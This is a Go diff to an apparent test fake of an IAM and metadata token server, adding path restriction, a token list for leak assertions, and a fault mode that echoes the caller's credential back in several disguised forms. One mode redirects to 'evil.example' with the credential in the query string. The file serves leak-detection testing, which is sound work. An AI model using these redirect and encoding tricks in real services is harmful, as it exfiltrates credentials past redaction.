@@ -3,6 +3,7 @@ package iamtest
 import (
 	"bufio"
 	"bytes"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -184,6 +185,7 @@ type config struct {
 	pullRules   []pullRule
 	images      []image
 	strict      bool
+	onlyPaths   string
 	addr        string
 	logw        io.Writer
 	noDefaults  bool
@@ -261,6 +263,12 @@ func WithImage(repository, tag string) Option {
 // version date; /instance_identity/v1 answers 404 from 2025-08-26 in both
 // modes.
 func WithStrictMetadataVersions() Option { return func(c *config) { c.strict = true } }
+
+// WithOnlyMetadataPaths makes the metadata service answer 404 on every path
+// but those of one path set: "/instance_identity/v1" (a service that
+// predates the 2025-08-26 paths) or "/identity/v1" (one that has retired
+// the old ones), whatever the version date.
+func WithOnlyMetadataPaths(prefix string) Option { return func(c *config) { c.onlyPaths = prefix } }
 
 // WithAddr makes the server listen on addr, which must be a loopback
 // address (e.g. "127.0.0.1:8080"); default "127.0.0.1:0".
@@ -469,6 +477,15 @@ func (s *Server) Count(ep Endpoint) int {
 		return 0
 	}
 	return int(s.counts[ep].Load())
+}
+
+// Minted returns every token the server has minted so far (IAM access
+// tokens, instance identity tokens, registry tokens), for tests that
+// assert none of them leaks.
+func (s *Server) Minted() []string {
+	s.sign.mu.Lock()
+	defer s.sign.mu.Unlock()
+	return append([]string(nil), s.sign.minted...)
 }
 
 // Grants is the number of IAM access tokens issued, by the IAM token
@@ -740,6 +757,9 @@ func (x *exchange) applyFault(f Fault) bool {
 		}
 		x.nativeError(st, code, msg)
 		return true
+	case FaultEcho:
+		x.echo(f.Echo)
+		return true
 	case FaultMalformedJSON:
 		x.w.Header().Set("Content-Type", "application/json")
 		x.w.WriteHeader(http.StatusOK)
@@ -792,6 +812,62 @@ func (x *exchange) nativeError(status int, code, msg string) {
 	default:
 		x.vpcError(status, vpcErr{Code: code, Message: msg})
 	}
+}
+
+// requestSecret is the secret the request carries: the API key or
+// service-account token in the form, else the Authorization header's
+// credential (a bearer token, or the Basic pair as sent).
+func (x *exchange) requestSecret() string {
+	for _, k := range []string{"apikey", "cr_token"} {
+		if v := x.form.Get(k); v != "" {
+			return v
+		}
+	}
+	_, cred, _ := strings.Cut(x.r.Header.Get("Authorization"), " ")
+	return cred
+}
+
+// echo answers with the request's secret where mode says (EchoModes).
+func (x *exchange) echo(mode string) {
+	sec := x.requestSecret()
+	raw := func(head string) {
+		hj, ok := x.w.(http.Hijacker)
+		if !ok {
+			panic(http.ErrAbortHandler)
+		}
+		conn, bw, err := hj.Hijack()
+		if err != nil {
+			panic(http.ErrAbortHandler)
+		}
+		defer conn.Close()
+		bw.WriteString(head)
+		_ = bw.Flush()
+	}
+	code, msg := "invalid_request", "the credential "+sec+" is not valid"
+	switch mode {
+	case "status-line":
+		raw("HTTP/1.1 " + sec + " Bad\r\nContent-Length: 0\r\n\r\n")
+		return
+	case "header":
+		raw("HTTP/1.1 400 Bad Request\r\nX-Echo " + sec + "\r\nContent-Length: 0\r\n\r\n")
+		return
+	case "redirect":
+		x.w.Header().Set("Location", "https://evil.example/?credential="+url.QueryEscape(sec))
+		x.w.WriteHeader(http.StatusFound)
+		fmt.Fprintf(x.w, "moved: %s\n", sec)
+		return
+	case "split":
+		code, msg = sec[:len(sec)/2], sec[len(sec)/2:]
+	case "padded":
+		msg = strings.Repeat("x", 590) + sec + strings.Repeat("y", 200) + sec
+	case "urlencoded":
+		msg = "credential=" + url.QueryEscape(sec)
+	case "base64":
+		msg = "credential " + base64.StdEncoding.EncodeToString([]byte(sec))
+	case "upper":
+		msg = "credential " + strings.ToUpper(sec)
+	}
+	x.nativeError(http.StatusBadRequest, code, msg)
 }
 
 // reset closes the connection with an RST and no answer.
